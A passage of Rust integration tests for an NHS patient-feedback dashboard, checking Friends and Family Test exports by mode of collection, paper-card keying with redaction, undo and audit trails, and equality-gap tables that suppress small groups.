        "<span class=\"big-number\">{}</span>responses",
        fft.fft_total()
    )));
    assert!(p.body.contains(&format!(
        "id=\"fft-positive\">{}% ",
        fft.fft_summary().positive.value().unwrap().percent.display
    )));
    let csv_page = c.get("/dashboard/exports/responses.csv").await;
    let ids: Vec<i64> = csv::Reader::from_reader(csv_page.body.as_bytes())
        .records()
        .map(|r| r.unwrap()[0].parse().unwrap())
        .collect();
    assert_eq!(ids, rows.iter().map(|r| r.0).collect::<Vec<_>>());
    let audit = audit_actions(&state).await;
    assert!(
        audit
            .iter()
            .any(|a| a.1 == "export_responses" && a.2.starts_with("2310 responses"))
    );
}

async fn configuration_changes_are_audited(app: Router, state: Arc<AppState>) {
    let _ = app;
    let record = |text: &'static str| {
        let state = state.clone();
        async move {
            dashboard::audit::record_config(&state.store, text, &state.config)
                .await
                .unwrap()
        }
    };
    assert!(
        record("[[sites]]\nid = \"demo\"").await,
        "first start is recorded"
    );
    assert!(
        !record("[[sites]]\nid = \"demo\"").await,
        "a restart with the same file is not"
    );
    assert!(
        record("[[sites]]\nid = \"demo\"\nretention_days = 30").await,
        "a change is"
    );
    let changes: Vec<String> = details(&state, "config_changed").await;
    // One entry per site per change, each about its own site only.
    assert_eq!(changes.len(), 4, "{changes:?}");
    assert!(
        changes[2].contains("demo (3 origins, any services, retention 730 days)"),
        "{changes:?}"
    );
    assert!(!changes[2].contains("other"), "{changes:?}");
}

/// Issue 18: responses carry their mode of collection; the export shows it, the report filter
/// narrows by it, and the NHS England return has one row per setting, service and mode column
/// with exactly the counts posted (QR codes lead to a web page, so they count as online).
async fn the_fft_return_counts_each_mode_of_collection(app: Router, state: Arc<AppState>) {
    let posts: &[(&str, &str, usize)] = &[
        ("online", "good", 3),
        ("qr", "very_good", 2),
        ("sms", "poor", 4),
        ("sms", "very_good", 1),
        ("paper", "neither", 6),
        ("tablet", "good", 5),
        ("telephone", "dont_know", 1),
    ];
    let mut n = 0;
    for (mode, answer, count) in posts {
        for _ in 0..*count {
            n += 1;
            let body = json!({
                "site": "demo", "service": "ward-9", "mode": mode,
                "response": {"instrument": "fft", "version": 1, "locale": "en",
                    "idempotency_key": format!("mode-test-{n:06}-{}", rand_suffix()),
                    "answers": {"fft": answer}}
            });
            let (status, _) =
                common::post_submission(&app, &body, Some("http://localhost:8080")).await;
            assert_eq!(status, StatusCode::CREATED, "{mode} {answer}");
        }
    }
    let mut c = signed_in(&app, &state, "modes@trust.nhs.uk", "demo", "analyst").await;
    let month = crate::dashboard::now_secs();
    let month = &chorus_server::store::iso_utc(month)[..7];
    let csv = fft_return_csv(&mut c, month).await;
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let mut rows: BTreeMap<String, Vec<u64>> = BTreeMap::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        assert_eq!((&rec[3], &rec[4]), ("Other", "ward-9"), "{rec:?}");
        let counts: Vec<u64> = (5..12).map(|i| rec[i].parse().unwrap()).collect();
        assert!(
            rows.insert(rec[12].to_string(), counts).is_none(),
            "one row per mode"
        );
    }
    let want: BTreeMap<String, Vec<u64>> = [
        ("Electronic", vec![0, 5, 0, 0, 0, 0, 5]),
        ("Online", vec![2, 3, 0, 0, 0, 0, 5]),
        ("Paper", vec![0, 0, 6, 0, 0, 0, 6]),
        ("SMS", vec![1, 0, 0, 4, 0, 0, 5]),
        ("Telephone", vec![0, 0, 0, 0, 0, 1, 1]),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    assert_eq!(rows, want);

    // The responses export names each response's mode, and the report filter narrows by it.
    let p = c
        .get("/dashboard/exports/responses.csv?service=ward-9&mode=sms")
        .await;
    assert_eq!(p.status, StatusCode::OK);
    let mut r = csv::Reader::from_reader(p.body.as_bytes());
    let modes: Vec<String> = r.records().map(|x| x.unwrap()[10].to_string()).collect();
    assert_eq!(modes, vec!["sms"; 5]);
    let p = c.get("/dashboard/fft?service=ward-9&mode=paper").await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(
        p.body.contains(r#"<option value="paper" selected>"#),
        "{}",
        p.body
    );
    let p = c.get("/dashboard/fft?mode=pigeon").await;
    assert_eq!(p.status, StatusCode::BAD_REQUEST);
    assert!(
        p.body.contains("Choose how responses were collected"),
        "{}",
        p.body
    );
}

/// Issue 18: paper cards keyed by staff. A card (answer digit, a comment with a phone number)
/// is stored once however often the form is sent, as mode paper with the card's date and the
/// comment redacted; bad dates and answers store nothing; undo removes the card just keyed;
/// a tally stores one response per card; the FFT return counts them under Paper; every step
/// is audited with who keyed it.
async fn paper_cards_are_keyed_once_tallied_undone_and_audited(app: Router, state: Arc<AppState>) {
    let mut c = signed_in(&app, &state, "keyer@trust.nhs.uk", "demo", "analyst").await;
    let today = chorus_server::store::iso_utc(dashboard::now_secs());
    let day = chorus_server::store::iso_utc(dashboard::now_secs() - 3 * 86_400)[..10].to_string();
    let page = c.get("/dashboard/paper?site=demo&service=ward-3").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.body.contains(r#"id="answer""#) && page.body.contains("autofocus"));
    assert!(page.body.contains("1 Very good, 2 Good"), "{}", page.body);
    let (csrf, card) = (page.csrf(), page.field("card"));
    let form = |answer: &'static str, date: String, card: String| {
        move |csrf: String| {
            vec![
                ("csrf".to_string(), csrf),
                ("card".into(), card.clone()),
                ("site".into(), "demo".into()),
                ("service".into(), "ward-3".into()),
                ("instrument".into(), "fft".into()),
                ("date".into(), date.clone()),
                ("answer".into(), answer.into()),
                (
                    "comment".into(),
                    "Nurse rang me on 07700 900123 after".into(),
                ),
                ("count".into(), "0".into()),
            ]
        }
    };
    let post = async |c: &mut Client, path: &str, v: Vec<(String, String)>| {
        let refs: Vec<(&str, &str)> = v.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        c.post(path, &refs).await
    };
    let before = state.store.count().await.unwrap();

    // Bad input stores nothing and says what is wrong.
    for (answer, date, says) in [
        ("7", day.clone(), "number from 1 to 6"),
        ("4", "2026-02-30".to_string(), "real date"),
        ("4", "2999-01-01".to_string(), "cannot be in the future"),
        ("4", "2001-01-01".to_string(), "within the last"),
    ] {
        let p = post(
            &mut c,
            "/dashboard/paper",
            form(answer, date, card.clone())(csrf.clone()),
        )
        .await;
        assert_eq!(p.status, StatusCode::BAD_REQUEST, "{answer}: {}", p.body);
        assert!(p.body.contains(says), "{says}: {}", p.body);
    }
    assert_eq!(state.store.count().await.unwrap(), before);

    // A card, sent twice (Enter pressed twice): stored once.
    let p = post(
        &mut c,
        "/dashboard/paper",
        form("4", day.clone(), card.clone())(csrf.clone()),
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    let next = c.get(p.location()).await;
    assert!(
        next.body.contains("Card 1 saved (reference CH-"),
        "{}",
        next.body
    );
    assert!(next.body.contains(r#"<strong id="count">1</strong>"#));
    assert_ne!(
        next.field("card"),
        card,
        "a fresh card id for the next card"
    );
    let again = post(
        &mut c,
        "/dashboard/paper",
        form("4", day.clone(), card.clone())(csrf.clone()),
    )
    .await;
    assert_eq!(again.status, StatusCode::SEE_OTHER);
    assert_eq!(state.store.count().await.unwrap(), before + 1);
    let row = sqlx::query(
        "SELECT id, mode, received_at, answers, service FROM responses ORDER BY id DESC LIMIT 1",
    )
    .fetch_one(state.store.pool())
    .await
    .unwrap();
    let (id, mode, at, answers, service): (i64, String, String, String, String) =
        (row.get(0), row.get(1), row.get(2), row.get(3), row.get(4));
    assert_eq!((mode.as_str(), service.as_str()), ("paper", "ward-3"));
    assert_eq!(&at[..10], day, "the card's date, not today's ({today})");
    assert!(
        answers.contains("[phone number]") && !answers.contains("07700"),
        "{answers}"
    );
    assert!(answers.contains(r#""fft":"poor""#), "4 is Poor: {answers}");

    // Undo the card just keyed; someone else cannot undo it.
    let mut other = signed_in(&app, &state, "other@trust.nhs.uk", "demo", "analyst").await;
    let page = other.get("/dashboard/paper?site=demo").await;
    let undo = |csrf: String| {
        vec![
            ("csrf".to_string(), csrf),
            ("site".into(), "demo".into()),
            ("service".into(), "ward-3".into()),
            ("instrument".into(), "fft".into()),
            ("date".into(), day.clone()),
            ("count".into(), "1".into()),
            ("last".into(), id.to_string()),
        ]
    };
    let p = post(&mut other, "/dashboard/paper/undo", undo(page.csrf())).await;
    assert_eq!(p.status, StatusCode::NOT_FOUND);
    assert_eq!(state.store.count().await.unwrap(), before + 1);
    let p = post(&mut c, "/dashboard/paper/undo", undo(csrf.clone())).await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(state.store.count().await.unwrap(), before);

    // A tally: 3 very good, 2 poor, 1 don't know; sent twice, stored once.
    let page = c.get("/dashboard/paper?site=demo&service=ward-3").await;
    let tally_card = page.field("card");
    let tally = vec![
        ("csrf".to_string(), csrf.clone()),
        ("card".into(), tally_card),
        ("site".into(), "demo".into()),
        ("service".into(), "ward-3".into()),
        ("instrument".into(), "fft".into()),
        ("date".into(), day.clone()),
        ("n1".into(), "3".into()),
        ("n2".into(), "".into()),
        ("n3".into(), "0".into()),
        ("n4".into(), "2".into()),
        ("n5".into(), "0".into()),
        ("n6".into(), "1".into()),
        ("count".into(), "0".into()),
    ];
    for _ in 0..2 {
        let p = post(&mut c, "/dashboard/paper/tally", tally.clone()).await;
        assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    }
    assert_eq!(state.store.count().await.unwrap(), before + 6);
    let p = c
        .get(&format!(
            "/dashboard/exports/fft-return.csv?site=demo&month={}",
            &day[..7]
        ))
        .await;
    let mut r = csv::Reader::from_reader(p.body.as_bytes());
    let paper: Vec<Vec<String>> = r
        .records()
        .map(|x| x.unwrap())
        .filter(|x| &x[12] == "Paper" && &x[4] == "ward-3")
        .map(|x| (5..12).map(|i| x[i].to_string()).collect())
        .collect();
    assert_eq!(paper, [["3", "0", "0", "2", "0", "1", "6"]]);
    let details: Vec<String> = details(&state, "paper_tally").await;
    assert!(details[0].starts_with("6 cards stored"), "{details:?}");
    assert!(
        details[1].starts_with("0 cards stored (6 already stored"),
        "{details:?}"
    );
    let actions: Vec<(String, String)> = audit_actions(&state)
        .await
        .into_iter()
        .filter(|a| a.1.starts_with("paper"))
        .map(|a| (a.0, a.1))
        .collect();
    let k = "keyer@trust.nhs.uk".to_string();
    assert_eq!(
        actions,
        [
            (k.clone(), "paper_card".to_string()),
            (k.clone(), "paper_card_resent".to_string()),
            (k.clone(), "paper_card_undone".to_string()),
            (k.clone(), "paper_tally".to_string()),
            (k, "paper_tally".to_string()),
        ]
    );
}

/// Issue 24: "About you" answers travel beside a response, are checked, stored apart, never
/// exported with the answers; the gap page shows exactly the core's gap table (small groups
/// and what would give them away hidden, a difference named only where its interval says so).
async fn equality_gaps_are_the_cores_and_characteristics_stay_apart(
    app: Router,
    state: Arc<AppState>,
) {
    let post = |site: &'static str,
                instrument: &'static str,
                answer: &'static str,
                about: Option<serde_json::Value>| {
        let app = app.clone();
        async move {
            let mut body = json!({
                "site": site, "service": "clinic-4",
                "response": {"instrument": instrument, "version": 1, "locale": "en",
                    "idempotency_key": format!("about-{}", rand_suffix()),
                    "answers": if instrument == "fft" { json!({"fft": answer}) } else { json!({"age_band": answer}) }}
            });
            if let Some(a) = about {
                body["about"] = a;
            }
            // A server-to-server post for the site with no origins (no Origin header).
            let origin = (site == "demo").then_some("http://localhost:8080");
            let (status, v) = common::post_submission(&app, &body, origin).await;
            (status, v.to_string())
        }
    };
    // (age band, positive, total): older patients less positive; a group of three.
    let plan: &[(&str, usize, usize)] = &[("65_74", 16, 40), ("25_34", 54, 60), ("85_plus", 2, 3)];
    for (band, positive, total) in plan {
        for i in 0..*total {
            let answer = if i < *positive { "good" } else { "poor" };
            let (s, b) = post(
                "demo",
                "fft",
                answer,
                Some(json!({"age_band": band, "carer": "no"})),
            )
            .await;
            assert_eq!(s, StatusCode::CREATED, "{b}");
        }
    }
    for i in 0..20 {
        let (s, _) = post(
            "demo",
            "fft",
            if i % 2 == 0 { "very_good" } else { "neither" },
            None,
        )
        .await;
        assert_eq!(s, StatusCode::CREATED);
    }
    // Bad "About you" input stores nothing and says what is wrong (without echoing it).
    for (site, instrument, about, code) in [
        (
            "demo",
            "fft",
            json!({"age_band": "ninety"}),
            "invalid_about",
        ),
        (
            "demo",
            "fft",
            json!({"943 476 5919": "yes"}),
            "invalid_about",
        ),
        (
            "other",
            "fft",
            json!({"age_band": "25_34"}),
            "about_not_enabled",
        ),
        ("demo", "about-you", json!({}), "instrument_not_allowed"),
    ] {
        let (s, b) = post(site, instrument, "good", Some(about)).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
        assert!(b.contains(code), "{b}");
        assert!(
            !b.contains("943 476"),
            "the message does not echo what was sent: {b}"
        );
    }
    assert_eq!(state.store.count().await.unwrap(), 123);

    let mut c = signed_in(&app, &state, "gaps@trust.nhs.uk", "demo", "analyst").await;
    let p = c.get("/dashboard/equality?service=clinic-4").await;
    assert_eq!(p.status, StatusCode::OK, "{}", p.body);
    // The core's table for the same groups.
    let about = chorus_core::library::get("about-you").unwrap();
    let item = about.items.iter().find(|i| i.id == "age_band").unwrap();
    let mut groups: Vec<chorus_core::gap::Group<chorus_core::aggregate::Proportion>> = item
        .options
        .iter()
        .map(|o| {
            let (k, n) = plan
                .iter()
                .find(|p| p.0 == o.id)
                .map_or((0, 0), |p| (p.1 as u64, p.2 as u64));
            chorus_core::gap::Group {
                label: o.text.en.clone(),
                stated: o.id != "prefer_not_to_say",
                reference_tenths: None,
                acc: chorus_core::aggregate::Proportion { k, n },
            }
        })
        .collect();
    groups.push(chorus_core::gap::Group {
        label: "Not answered".into(),
        stated: false,
        reference_tenths: None,
        acc: chorus_core::aggregate::Proportion { k: 10, n: 20 },
    });
    let want = chorus_core::gap::proportion_gaps(
        &groups,
        &chorus_core::aggregate::Proportion { k: 82, n: 123 },
    );
    let table = &p.body[p.body.find(r#"id="gap-table-age_band""#).unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    let rows: Vec<&str> = table.split("<tr>").skip(2).collect();
    assert_eq!(rows.len(), want.rows.len());
    for (html, r) in rows.iter().zip(&want.rows) {
        assert!(
            html.contains(&format!(
                "<th scope=\"row\">{}</th>",
                r.label.replace('\'', "&#39;")
            )) || html.contains(&r.label),
            "{html}"
        );
        assert!(html.contains(r.verdict.words()), "{}: {html}", r.label);
        match &r.n {
            Pub::Value(n) => assert!(html.contains(&format!(">{n}<")), "{html}"),
            Pub::Suppressed => assert!(html.contains("suppressed"), "{html}"),
        }
        if let Pub::Value(d) = &r.difference {
            assert!(
                html.contains(&format!("{} ", d.points)) && html.contains(&d.low),
                "{html}"
            );
        }
    }
    let older = rows.iter().find(|r| r.contains("65 to 74")).unwrap();
    assert!(older.contains("lower than everyone else"), "{older}");
    let oldest = rows.iter().find(|r| r.contains("85 or older")).unwrap();
    assert!(
        oldest.contains("suppressed") && !oldest.contains(">3<"),
        "{oldest}"
    );
    // The responses export never carries a characteristic.
    let csv = c
        .get("/dashboard/exports/responses.csv?service=clinic-4")
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(
        !csv.body.contains("65_74") && !csv.body.contains("age_band"),
        "{}",
        csv.body
    );
}
